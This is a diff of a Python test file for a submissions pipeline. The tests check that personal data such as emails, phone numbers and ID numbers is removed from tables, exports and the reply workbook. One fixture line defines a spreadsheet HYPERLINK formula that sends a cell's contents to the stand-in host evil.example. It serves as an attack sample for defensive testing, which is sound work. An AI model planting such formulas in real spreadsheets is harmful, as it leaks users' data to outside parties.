@@ -27,7 +27,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"ver")'
 PERSONAL = {"correo": "juana.quispe@example.org", "celular": "987654321", "dni": "41234567"}
 WRITTEN = {  # where a person may write it, in spellings that people use
     "nombre": "Vivero de Juana, D.N.I. N° 41.234.567",
-    "institucion": "Comité de Huaytire, juana.quispe@example.org",
+    "institucion": "juana.quispe@example.org",
     "financiador": "Contacto: Juana Quispe Mamani, 987.654.321",
     "monto_soles": "1000",
     "documento": "Recibo de RUC 10412345679, telf. (052) 234567",
@@ -127,6 +127,10 @@ def test_personal_data_of_a_submission_is_in_no_table_and_no_export(attacked: Pi
         assert told is not None
         assert told[0].count("[dato personal retirado]") == 3
         assert "Responsable: Juana" in told[0]
+        alone = con.execute(
+            "select count(*) from core.institutions where institution_name like '%dato personal%'"
+        ).fetchone()
+        assert alone == (0,), "nobody is an institution by the name of what was taken out"
         counted = con.execute(
             "select sum(rows_failed) from quality.rule_counts where reporting_institution = 'agroforestal_sac'"
             " and rule_id = 'submissions.table.texts_hold_no_personal_data'"
@@ -151,6 +155,9 @@ def test_the_answer_says_that_personal_data_were_taken_out(attacked: Pipeline) -
     told = {code for code, text in said.items() if "datos personales" in text}
     assert {"EVIL-0", "EVIL-1", "EVIL-2"} <= told
     assert not [code for code in told if not code.startswith(("EVIL", "PERSONAS"))]
+    refused = list(openpyxl.load_workbook(answer)["Por corregir"].values)
+    said = {row[refused[0].index("codigo")]: row[refused[0].index("que_paso")] for row in refused[1:]}
+    assert "datos personales" in said["PERSONAS"], "a row that is refused for another reason is told too"
 
 
 def test_a_link_in_the_inbox_is_not_followed(attacked: Pipeline) -> None:
